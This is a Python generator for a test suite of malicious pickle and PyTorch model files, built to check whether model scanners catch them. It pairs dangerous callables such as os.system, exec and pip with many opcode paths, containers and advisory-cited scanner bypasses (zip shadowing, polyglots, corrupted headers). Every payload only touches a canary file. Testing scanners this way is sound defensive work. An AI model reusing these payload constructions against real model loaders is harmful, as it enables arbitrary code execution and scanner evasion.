"""Generator of the malicious suite: dangerous callables x opcode paths x containers, plus known bypasses.

Every payload only ever touches one canary file (``canary`` argument, a path in
a temp dir): shell commands ``touch <canary>``, code strings
``open(<canary>, 'w').close()``, file APIs writing or reading ``<canary>``,
URLs ``file://<canary>``. Nothing here loads a pickle; tests assert the canary
never appears.

``generate(canary)`` returns :class:`Sample` objects; ``write_suite(dir, canary)``
writes them with file names whose extensions match what scanners expect
(``.pkl`` raw pickles, ``.pt`` torch files, ``.npy``/``.zip`` impostors).
"""

from __future__ import annotations

import io
import marshal
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from security.pickleasm import Asm, Call, G

LEGACY_HEAD = (
    b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}q\x00(X\x10\x00\x00\x00"
    b"protocol_versionq\x01M\xe9\x03X\r\x00\x00\x00little_endianq\x02\x88X\n\x00\x00\x00type_sizesq"
    b"\x03}q\x04(X\x05\x00\x00\x00shortq\x05K\x02X\x03\x00\x00\x00intq\x06K\x04X\x04\x00\x00\x00longq"
    b"\x07K\x04uu."
)
LEGACY_KEYS = b"\x80\x02]q\x00."


@dataclass(frozen=True)
class Sample:
    name: str  # file name, unique in the suite
    data: bytes
    callable: str  # the dangerous callable (or technique) it reaches
    path: str  # opcode path
    container: str
    source: str = "product"  # "product", or the advisory / issue the bypass comes from
    executes: bool = True  # False: the payload shows intent but CPython would fail before running it


@dataclass(frozen=True)
class Target:
    g: G
    args: Callable[[str], tuple]  # canary -> call arguments
    is_class: bool = False
    importer: str | None = None  # a module that imports g.module (for dotted attribute paths)


def _code(c: str) -> str:
    return f"open({c!r}, 'w').close()"


def _inner(c: str) -> bytes:
    return b"cos\nsystem\n(V" + f"touch {c}".encode() + b"\ntR."


def targets() -> list[Target]:
    sh = lambda c: (f"touch {c}",)  # noqa: E731
    code = lambda c: (_code(c),)  # noqa: E731
    pip_args = lambda c: (["install", "--no-index", "--find-links", os.path.dirname(c), "x"],)  # noqa: E731
    return [
        Target(G("os", "system"), sh, importer="shutil"),
        Target(G("posix", "system"), sh),
        Target(G("os", "popen"), sh, importer="shutil"),
        Target(G("os", "spawnlp"), lambda c: (0, "touch", "touch", c), importer="shutil"),
        Target(G("subprocess", "Popen"), lambda c: (["touch", c],), is_class=True, importer="asyncio.subprocess"),
        Target(G("subprocess", "check_output"), lambda c: (["touch", c],), importer="asyncio.subprocess"),
        Target(G("subprocess", "getoutput"), sh, importer="asyncio.subprocess"),
        Target(G("commands", "getoutput"), sh),
        Target(G("pty", "spawn"), lambda c: (["touch", c],)),
        Target(G("builtins", "eval"), code, importer="codecs"),
        Target(G("builtins", "exec"), code, importer="codecs"),
        Target(G("__builtin__", "exec"), code),
        Target(G("builtins", "open"), lambda c: (c, "w"), importer="codecs"),
        Target(G("runpy", "_run_code"), lambda c: (_code(c), {})),
        Target(G("timeit", "timeit"), lambda c: (_code(c), "pass", G("time", "perf_counter"), 1)),
        Target(G("cProfile", "run"), code),
        Target(G("pdb", "run"), code),
        Target(G("shutil", "copyfile"), lambda c: ("/dev/null", c)),
        Target(G("urllib.request", "urlretrieve"), lambda c: ("file:///dev/null", c)),
        Target(G("webbrowser", "open"), lambda c: (f"file://{c}",)),
        Target(G("ctypes", "CDLL"), lambda c: (c,), is_class=True),
        Target(G("pickle", "loads"), lambda c: (_inner(c),)),
        Target(G("torch", "load"), lambda c: (c,)),
        Target(G("numpy", "load"), lambda c: (c, None, True)),
        Target(G("torch.hub", "load_state_dict_from_url"), lambda c: (f"file://{c}", os.path.dirname(c))),
        Target(G("pip", "main"), pip_args),
        Target(G("ensurepip", "_run_pip"), pip_args),
        Target(G("torch.utils.collect_env", "run"), sh),
        Target(G("multiprocessing.util", "spawnv_passfds"), lambda c: (b"/bin/sh", ["sh", "-c", f"touch {c}"], ())),
        Target(G("numpy.testing._private.utils", "runstring"), lambda c: (_code(c), {})),
        Target(G("torch.fx.graph_module", "reduce_graph_module"), lambda c: ({"_code": _code(c) + "\n"}, "")),
        Target(G("uuid", "_get_command_stdout"), lambda c: ("touch", c)),
    ]


# ------------------------------------------------------------------ opcode paths
def _p_global_reduce(t: Target, c: str, proto: int) -> bytes:
    return Asm(proto, stack_global=False).call(Call(t.g, t.args(c))).stop()


def _p_stack_global(t: Target, c: str) -> bytes:
    a = Asm(4)
    a.s(t.g.module).put()
    a.s(t.g.name).put()
    a.raw(b"\x93").put()
    a.tuple_(t.args(c)).raw(b"R")
    return a.stop()


def _p_stack_global_memo(t: Target, c: str) -> bytes:
    """Strings stored with BINPUT, decoys with MEMOIZE (picklescan#14 memo confusion), fetched by BINGET."""
    a = Asm(4)
    a.s(t.g.module).raw(b"q\x01")  # BINPUT 1
    a.s(t.g.name).raw(b"q\x00")  # BINPUT 0
    a.s("torch._utils").raw(b"\x94")  # MEMOIZE -> index 2 (a scanner counting MEMOIZE only thinks 0)
    a.s("_rebuild_tensor_v2").raw(b"\x94")  # -> 3 (thought 1)
    a.raw(b"0000")  # POP x4
    a.raw(b"h\x01h\x00\x93")  # BINGET 1, BINGET 0, STACK_GLOBAL
    a.tuple_(t.args(c)).raw(b"R")
    return a.stop()


def _p_inst(t: Target, c: str) -> bytes:
    return Asm(0).call(Call(t.g, t.args(c), how="inst")).stop()


def _p_obj(t: Target, c: str) -> bytes:
    return Asm(1, stack_global=False).call(Call(t.g, t.args(c), how="obj")).stop()


def _p_newobj(t: Target, c: str) -> bytes:
    return Asm(2).call(Call(t.g, t.args(c), how="newobj")).stop()


def _p_newobj_ex(t: Target, c: str) -> bytes:
    return Asm(4).call(Call(t.g, t.args(c), how="newobj_ex", kwargs={})).stop()


def _p_build_setstate(t: Target, c: str) -> bytes:
    """An innocent instance gets __setstate__ = target via BUILD slot state; a second BUILD calls it."""
    a = Asm(2)
    a.call(Call(G("argparse", "Namespace"), (), how="newobj"))
    a.build((None, {"__setstate__": t.g}))
    args = t.args(c)
    a.build(args[0] if len(args) == 1 else args)
    return a.stop()


def _p_ext(t: Target, c: str) -> bytes:
    a = Asm(2)
    a.raw(b"\x82\xf0")  # EXT1 240: whatever copyreg.add_extension registered in the loading process
    a.tuple_(t.args(c)).raw(b"R")
    return a.stop()


def _p_getattr_chain(t: Target, c: str) -> bytes:
    fn = Call(G("builtins", "getattr"), (Call(G("importlib", "import_module"), (t.g.module,)), t.g.name))
    return Asm(2).call(Call(fn, t.args(c))).stop()


def _p_rebuild_from_type(t: Target, c: str) -> bytes:
    """torch._tensor._rebuild_from_type_v2(func, new_type, args, state) calls func(*args) (torch.load)."""
    return Asm(2).call(Call(G("torch._tensor", "_rebuild_from_type_v2"),
                            (t.g, G("torch", "Tensor"), t.args(c), {}))).stop()


def _p_reconstructor(t: Target, c: str) -> bytes:
    """copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state) for a non-object base."""
    args = t.args(c)
    return Asm(2).call(Call(G("copyreg", "_reconstructor"), (t.g, t.g, args[0] if len(args) == 1 else args))).stop()


def _p_dotted(t: Target, c: str) -> bytes:
    alias = t.g.module.split(".")[-1] if t.g.module != "builtins" else "builtins"
    a = Asm(4)
    a.s(t.importer or "").s(f"{alias}.{t.g.name}").raw(b"\x93")
    a.tuple_(t.args(c)).raw(b"R")
    return a.stop()


PATHS: dict[str, tuple[Callable[[Target, str], bytes], str]] = {
    # name: (builder, applies to: "all" | "function" | "class" | "single" | "importer")
    "global-reduce-p0": (lambda t, c: _p_global_reduce(t, c, 0), "all"),
    "global-reduce-p2": (lambda t, c: _p_global_reduce(t, c, 2), "all"),
    "stack-global": (_p_stack_global, "all"),
    "stack-global-memo": (_p_stack_global_memo, "all"),
    "inst": (_p_inst, "all"),
    "obj": (_p_obj, "all"),
    "newobj": (_p_newobj, "class"),
    "newobj-ex": (_p_newobj_ex, "class"),
    "build-setstate": (_p_build_setstate, "single"),
    "ext": (_p_ext, "all"),
    "getattr-chain": (_p_getattr_chain, "all"),
    "rebuild-from-type": (_p_rebuild_from_type, "function"),
    "reconstructor": (_p_reconstructor, "class"),
    "dotted": (_p_dotted, "importer"),
}
INTENT_ONLY = {"ext"}  # the callable is whatever the loading process registered under the code


def _applies(kind: str, t: Target, c: str) -> bool:
    if kind == "all":
        return True
    if kind == "class":
        return t.is_class
    if kind == "function":
        return not t.is_class
    if kind == "single":
        return len(t.args(c)) == 1 and not t.is_class
    if kind == "importer":
        return t.importer is not None
    return False


# ------------------------------------------------------------------ containers
def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, root: str = "archive", extra: list[tuple[str, bytes]] | None = None) -> bytes:
    return _zip([(f"{root}/data.pkl", data_pkl), (f"{root}/byteorder", b"little"),
                 *(extra or []), (f"{root}/version", b"3\n"), (f"{root}/.data/serialization_id", b"1234567890")])


BENIGN_TS_DATA = Asm(2).call(Call(G("__torch__", "M"), (), how="newobj")).build({"training": True}).stop()
BENIGN_TS_CONSTANTS = b"\x80\x02)."
TS_CODE = b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n" \
          b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n"


def torchscript_zip(data_pkl: bytes, constants_pkl: bytes, code: bytes = TS_CODE) -> bytes:
    return _zip([("archive/data.pkl", data_pkl), ("archive/code/__torch__.py", code),
                 ("archive/constants.pkl", constants_pkl), ("archive/version", b"1\n"),
                 ("archive/.data/version", b"1\n")])


def legacy(obj_pkl: bytes) -> bytes:
    return LEGACY_HEAD + obj_pkl + LEGACY_KEYS


def tar01(obj_pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in (("sys_info", LEGACY_HEAD[15:]), ("pickle", obj_pkl), ("tensors", b"\x80\x02K\x00."),
                           ("storages", b"\x80\x02K\x00.\x80\x02].")):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


BENIGN_SD = Asm(2).call(Call(G("collections", "OrderedDict"), ())).stop()


def nested_in_bytes(payload: bytes) -> bytes:
    """A torch zip whose data.pkl looks like a state_dict plus a storage rebuilt by torch.load of embedded bytes."""
    inner = torch_zip(payload)
    pkl = Asm(2).value({"state_dict": Call(G("collections", "OrderedDict"), ()),
                        "ema": Call(G("torch.storage", "_load_from_bytes"), (inner,))}).stop()
    return torch_zip(pkl)


def polyglot(payload: bytes) -> bytes:
    """The payload pickle, then a complete benign torch zip: zip tools see a clean checkpoint, torch runs the pickle."""
    return payload + torch_zip(BENIGN_SD)


CONTAINERS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "raw-pickle": (lambda p: p, ".pkl"),
    "legacy": (legacy, ".pt"),
    "zip-data.pkl": (lambda p: torch_zip(p), ".pt"),
    "torchscript-constants.pkl": (lambda p: torchscript_zip(BENIGN_TS_DATA, p), ".pt"),
    "torchscript-data.pkl": (lambda p: torchscript_zip(p, BENIGN_TS_CONSTANTS), ".pt"),
    "nested-bytes": (nested_in_bytes, ".pt"),
    "polyglot": (polyglot, ".pt"),
    "tar-0.1": (tar01, ".tar"),
}


# ------------------------------------------------------------------ bypasses
def _broken_tail(c: str) -> bytes:
    """Payload first, then bytes that break the stream (no STOP): unpicklers run the call before failing."""
    a = Asm(2, stack_global=False).call(Call(G("os", "system"), (f"touch {c}",))).raw(b"\xff\xfe garbage")
    return bytes(a.out)  # no STOP on purpose


def _numpy_prod_build(c: str) -> bytes:
    """modelscan#85: BUILD sets numpy.prod.a/b, STACK_GLOBAL reads module/name back through GLOBAL+memo."""
    a = Asm(4, stack_global=False)
    a.glob(G("numpy", "prod")).build((None, {"a": "os"})).build((None, {"b": "system"})).raw(b"0")
    a.glob(G("numpy", "prod.a")).raw(b"p0\n")
    a.glob(G("numpy", "prod.b")).raw(b"p1\n").raw(b"00")
    a.raw(b"g0\ng1\n\x93")
    a.tuple_((f"touch {c}",)).raw(b"R")
    return a.stop()


def _numpy_builtins(c: str) -> bytes:
    """modelscan#330: numpy.__builtins__ dict stored on numpy.size by BUILD, then getattr-like REDUCE to eval."""
    a = Asm(4)
    a.glob(G("numpy", "size")).put()
    a.put()
    a.glob(G("numpy", "__builtins__")).put()
    a.put()
    a.get(1).raw(b"}").raw(b"}").s("shape").get(3).raw(b"s\x86b")
    a.get(1).get(1).s("eval").raw(b"\x86R")
    a.s(f"__import__('os').system('touch {c}')").raw(b"\x85R")
    return a.stop()


def _importlib_join(c: str) -> bytes:
    """modelscan#331: import_module('builtins'), getattr(str, 'join') builds 'os'/'system' from pieces."""
    imp = Call(G("importlib", "import_module"), ("builtins",))
    getattr_ = G("builtins", "getattr")
    join = Call(getattr_, (Call(getattr_, (imp, "str")), "join"))
    os_name = Call(join, ("", ["o", "s"]))
    system = Call(join, ("", ["s", "y", "s", "t", "e", "m"]))
    fn = Call(getattr_, (Call(G("importlib", "import_module"), (os_name,)), system))
    return Asm(4).call(Call(fn, (f"touch {c}",))).stop()


def _call(g: G, args: tuple, proto: int = 2, **kw) -> bytes:
    return Asm(proto, **kw).call(Call(g, args)).stop()


def _chain(fn: Call, args: tuple, proto: int = 2) -> bytes:
    return Asm(proto).call(Call(fn, args)).stop()


def _marshal_exec(c: str) -> bytes:
    code = marshal.dumps(compile(_code(c), "<x>", "exec"))  # compiling is not running
    return _call(G("builtins", "exec"), (Call(G("marshal", "loads"), (code,)),), 4)


def _zip_variants(c: str, payload: bytes) -> list[tuple[str, bytes, str]]:
    good = torch_zip(BENIGN_SD)
    bad = torch_zip(payload)
    out = []
    # duplicate data.pkl: benign copy first / last
    out.append(("zip-duplicate-benign-first", _zip([("archive/data.pkl", BENIGN_SD), ("archive/data.pkl", payload),
                                                   ("archive/version", b"3\n")]), "picklescan/modelscan zip shadowing"))
    out.append(("zip-duplicate-benign-last", _zip([("archive/data.pkl", payload), ("archive/data.pkl", BENIGN_SD),
                                                  ("archive/version", b"3\n")]), "picklescan/modelscan zip shadowing"))
    # local header names another file (zipfile refuses, torch reads by the central directory)
    lh = bytearray(bad)
    i = lh.find(b"archive/data.pkl")
    lh[i : i + 16] = b"archive/data.pkX"
    out.append(("zip-local-name-mismatch", bytes(lh), "GHSA-7q5r-7gvp-wc82 (zip exploit crashes picklescan)"))
    # encrypted flag bit on every member (zipfile: 'File is encrypted')
    enc = bytearray(bad)
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        p = enc.find(sig)
        while p >= 0:
            off = p + (6 if sig == b"PK\x03\x04" else 8)
            enc[off] |= 1
            p = enc.find(sig, p + 4)
    out.append(("zip-encrypted-flag", bytes(enc), "GHSA-w8jq-xcqf-f792 (zip flag bit crashes picklescan)"))
    # CRC of data.pkl wrong (zipfile: Bad CRC-32)
    crc = bytearray(bad)
    real = struct.pack("<I", zlib.crc32(payload))
    p = crc.find(real)
    while p >= 0:
        crc[p : p + 4] = b"\x00\x00\x00\x01"
        p = crc.find(real, p + 4)
    out.append(("zip-bad-crc", bytes(crc), "CVE-2025-10156 (zip CRC errors crash picklescan)"))
    # a corrupted member before data.pkl (modelscan#354: fail-open iteration)
    z = _zip([("archive/aaa_broken", b"x" * 64), ("archive/data.pkl", payload), ("archive/version", b"3\n")])
    zb = bytearray(z)
    zb[2:4] = b"\x00\x00"  # break the first local header signature
    out.append(("zip-corrupt-first-member", bytes(zb), "modelscan#354 fail-open zip iteration"))
    # deflated data.pkl
    out.append(("zip-deflated-data.pkl", _zip([("archive/data.pkl", payload), ("archive/version", b"3\n")],
                                              zipfile.ZIP_DEFLATED), "compressed pickle member"))
    # the torch zip inside a non-torch zip (a .pt in an SB3-like archive)
    out.append(("zip-nested-pt-in-zip", _zip([("data", b"{}"), ("policy.pth", bad)]), "nested zip"))
    # pickle prepended to a zip whose offsets account for it (self-extracting style)
    out.append(("zip-prepended-pickle", payload + good, "parser differential: zip readers vs torch.load"))
    return out


def bypasses(c: str) -> list[Sample]:
    osys = (f"touch {c}",)
    code = (_code(c),)
    s: list[tuple[str, bytes, str, str, str]] = [  # (name, data, callable, container, source)
        ("memo-confusion", _p_stack_global_memo(Target(G("os", "system"), lambda _: osys), c), "os.system",
         "raw-pickle", "picklescan#14 memo confusion"),
        ("numpy-prod-build", _numpy_prod_build(c), "os.system via BUILD", "raw-pickle", "modelscan#85"),
        ("numpy-builtins-build", _numpy_builtins(c), "eval via numpy.__builtins__", "raw-pickle", "modelscan#330"),
        ("importlib-str-join", _importlib_join(c), "os.system via importlib", "raw-pickle", "modelscan#331"),
        ("pkgutil-resolve-name", _chain(Call(G("pkgutil", "resolve_name"), ("os:system",)), osys),
         "pkgutil.resolve_name", "raw-pickle", "GHSA-vvpj-8cmc-gx39"),
        ("ensurepip-run-pip", _call(G("ensurepip", "_run_pip"), (["install", "--no-index", "x"],)),
         "ensurepip._run_pip", "raw-pickle", "GHSA-xp4f-hrf8-rxw7"),
        ("timeit", _call(G("timeit", "timeit"), (code[0], "pass", G("time", "perf_counter"), 1)), "timeit.timeit",
         "raw-pickle", "GHSA-v7x6-rv5q-mhwc"),
        ("cprofile-run", _call(G("cProfile", "run"), code), "cProfile.run", "raw-pickle", "GHSA-46h3-79wf-xr6c"),
        ("profile-run", _call(G("profile", "run"), code), "profile.run", "raw-pickle", "GHSA-46h3-79wf-xr6c"),
        ("trace-runctx", _chain(Call(G("builtins", "getattr"), (Call(G("trace", "Trace"), ()), "runctx")),
                                (code[0], {}, {})), "trace.Trace.runctx", "raw-pickle", "picklescan trace"),
        ("doctest-debug-script", _call(G("doctest", "debug_script"), code), "doctest.debug_script", "raw-pickle",
         "picklescan doctest"),
        ("code-interactive-runcode", Asm(4).call(Call(G("code", "InteractiveInterpreter.runcode"),
                                                      (Call(G("code", "InteractiveInterpreter"), ()), code[0]))).stop(),
         "code.InteractiveInterpreter.runcode", "raw-pickle", "picklescan code.InteractiveInterpreter.runcode"),
        ("interpreters-run-string", _call(G("_interpreters", "run_string"),
                                          (Call(G("_interpreters", "create"), ()), code[0])),
         "_interpreters.run_string", "raw-pickle", "GHSA-6ggj-6f2q-f7mx"),
        ("asyncio-subprocess-shell", _call(G("asyncio", "run"), (Call(G("asyncio", "create_subprocess_shell"),
                                                                       (osys[0],)),)),
         "asyncio.create_subprocess_shell", "raw-pickle", "CVE-2025-10157 asyncio"),
        ("operator-attrgetter", _chain(Call(Call(G("operator", "attrgetter"), ("system",)),
                                            (Call(G("importlib", "import_module"), ("os",)),)), osys),
         "operator.attrgetter", "raw-pickle", "GHSA-m273-6v24-x4m4"),
        ("_operator-methodcaller", _chain(Call(G("_operator", "methodcaller"), ("system", osys[0])),
                                          (Call(G("importlib", "import_module"), ("os",)),)),
         "_operator.methodcaller", "raw-pickle", "GHSA-955r-x9j8-7rhh"),
        ("functools-partial", _chain(Call(G("functools", "partial"), (G("os", "system"), osys[0])), ()),
         "functools.partial(os.system)", "raw-pickle", "fickling#210 partial wrapper"),
        ("defaultdict-factory-getitem", _call(G("operator", "getitem"), (
            Call(G("collections", "defaultdict"), (Call(G("functools", "partial"), (G("os", "system"), osys[0])),)),
            "k")), "defaultdict factory", "raw-pickle", "modelaudit#1063 mapping wrapper"),
        ("atexit-register", _call(G("atexit", "register"), (G("os", "system"), osys[0])), "atexit.register",
         "raw-pickle", "callback registration"),
        ("threading-timer", _chain(Call(G("builtins", "getattr"), (Call(G("threading", "Timer"),
                                                                         (0, G("os", "system"), osys)), "start")), ()),
         "threading.Timer", "raw-pickle", "callback registration"),
        ("collect-env-run", _call(G("torch.utils.collect_env", "run"), osys), "torch.utils.collect_env.run",
         "raw-pickle", "modelscan#338"),
        ("spawnv-passfds", _call(G("multiprocessing.util", "spawnv_passfds"), (b"/bin/sh", ["sh", "-c", osys[0]], ())),
         "multiprocessing.util.spawnv_passfds", "raw-pickle", "modelscan#338"),
        ("mlflow-run-entry-point", _call(G("mlflow.projects.backend.local", "_run_entry_point"), (osys[0], ".", "", "")),
         "mlflow _run_entry_point", "raw-pickle", "modelscan#338"),
        ("pandas-read-pickle", _call(G("pandas", "read_pickle"), (f"file://{c}",)), "pandas.read_pickle",
         "raw-pickle", "modelscan#269"),
        ("pandas-read-csv", _call(G("pandas.io.parsers.readers", "read_csv"), (f"file://{c}",)), "pandas read_csv",
         "raw-pickle", "modelscan#338"),
        ("pip-main", _call(G("pip", "main"), (["install", "--no-index", "x"],)), "pip.main", "raw-pickle",
         "CVE-2025-1716"),
        ("pip-internal-main", _call(G("pip._internal.cli.main", "main"), (["install", "--no-index", "x"],)),
         "pip._internal", "raw-pickle", "CVE-2025-1716"),
        ("torch-load-bytesio", _call(G("torch", "load"), (Call(G("io", "BytesIO"), (torch_zip(_inner(c)),)),), 4),
         "torch.load(BytesIO(...))", "raw-pickle", "nested torch.load"),
        ("pickle-loads-nested", _call(G("pickle", "loads"), (_inner(c),), 4), "pickle.loads", "raw-pickle",
         "modelscan#267"),
        ("builtin-py2-alias", _call(G("__builtin__", "eval"), code, 2, stack_global=False), "__builtin__.eval",
         "raw-pickle", "__builtin__ vs builtins"),
        ("getattr-builtins-exec", _chain(Call(G("builtins", "getattr"), (G("codecs", "builtins"), "exec")), code),
         "getattr(builtins, 'exec')", "raw-pickle", "getattr(builtins, 'exec')"),
        ("import-then-getattr", _chain(Call(G("builtins", "getattr"), (Call(G("builtins", "__import__"), ("os",)),
                                                                        "system")), osys),
         "__import__ + getattr", "raw-pickle", "builtins.__import__"),
        ("marshal-exec", _marshal_exec(c), "exec(marshal.loads(...))", "raw-pickle", "picklescan#74 marshal"),
        ("dotted-torch-serialization-os", Asm(4).s("torch.serialization").s("os.system").raw(b"\x93")
         .tuple_(osys).raw(b"R").stop(), "os.system via torch.serialization.os", "raw-pickle", "dotted attribute path"),
        ("antigravity-import", Asm(2, stack_global=False).glob(G("antigravity", "geohash")).stop(),
         "antigravity (import opens a browser)", "raw-pickle", "import side effect"),
        ("bottleneck-main", _call(G("torch.utils.bottleneck.__main__", "run_cprofile"), (code[0], {})),
         "torch.utils.bottleneck.__main__", "raw-pickle", "picklescan torch.utils.bottleneck"),
        ("inductor-compile-file", _call(G("torch._inductor.codecache", "compile_file"), ("", "", ["sh", "-c", osys[0]])),
         "torch._inductor.codecache.compile_file", "raw-pickle", "picklescan torch._inductor"),
        ("string-opcodes-py2", b"c__builtin__\neval\n(S'" + code[0].replace("'", "\\'").encode() + b"'\ntR.",
         "__builtin__.eval (STRING)", "raw-pickle", "modelscan#311 classic string opcodes"),
        ("broken-after-payload", _broken_tail(c), "os.system then garbage", "raw-pickle",
         "CVE-2025-32434 write-up: payload then broken structure"),
        ("uppercase-module", _call(G("Os", "system"), osys), "look-alike module", "raw-pickle", "named like stdlib"),
        ("reconstructor-popen", _p_reconstructor(Target(G("subprocess", "Popen"), lambda _: (["touch", c],), True), c),
         "copyreg._reconstructor(Popen)", "raw-pickle", "reconstructor base __init__"),
    ]
    out = [Sample(f"bypass-{n}.pkl", d, cal, "bypass", cont, src) for n, d, cal, cont, src in s]
    for n, d, src in _zip_variants(c, _call(G("os", "system"), osys)):
        out.append(Sample(f"bypass-{n}.pt", d, "os.system", "bypass", "zip", src))
    for ext in (".bin", ".ckpt", ".dat", ".pth.tar", ""):
        out.append(Sample(f"bypass-extension{ext or '-none'}{ext}", torch_zip(_call(G("os", "system"), osys)),
                          "os.system", "bypass", "zip", "GHSA-769v-p64c-89pr non-standard extensions"))
    out.append(Sample("bypass-raw-pickle-as-bin.bin", _call(G("os", "system"), osys), "os.system", "bypass",
                      "raw-pickle", "CVE-2025-10155 extension bypass"))
    # numpy object arrays (numpy.load(allow_pickle=True) runs the pickle)
    payload = _call(G("os", "system"), osys)
    hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += b" " * ((64 - (10 + len(hdr) + 1) % 64) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + payload
    out.append(Sample("bypass-npy-object-array.npy", npy, "os.system", "bypass", "npy", "numpy allow_pickle"))
    out.append(Sample("bypass-npz-object-array.npz", _zip([("arr_0.npy", npy)]), "os.system", "bypass", "npz",
                      "numpy allow_pickle"))
    # TorchScript code that reads any file at forward time
    ts_code = TS_CODE.replace(b"return x", b"return torch.from_file(" + repr(c).encode() + b", False, 4)")
    out.append(Sample("bypass-torchscript-from-file.pt", torchscript_zip(BENIGN_TS_DATA, BENIGN_TS_CONSTANTS, ts_code),
                      "torch.from_file in TorchScript code", "bypass", "torchscript-code", "TorchScript code escape"))
    return out


# ------------------------------------------------------------------ the suite
def generate(canary: str) -> list[Sample]:
    out: list[Sample] = []
    for t in targets():
        fname = f"{t.g.module}.{t.g.name}"
        for pname, (build, kind) in PATHS.items():
            if not _applies(kind, t, canary):
                continue
            payload = build(t, canary)
            for cname, (wrap, ext) in CONTAINERS.items():
                executes = pname not in INTENT_ONLY and not (pname == "newobj-ex" or pname == "newobj")
                out.append(Sample(f"{fname}--{pname}--{cname}{ext}", wrap(payload), fname, pname, cname,
                                  "product", executes))
    out.extend(bypasses(canary))
    names = [s.name for s in out]
    assert len(names) == len(set(names)), "sample names must be unique"
    return out


def write_suite(directory: str | Path, canary: str) -> list[tuple[Path, Sample]]:
    d = Path(directory)
    d.mkdir(parents=True, exist_ok=True)
    out = []
    for s in generate(canary):
        p = d / s.name
        p.write_bytes(s.data)
        out.append((p, s))
    return out
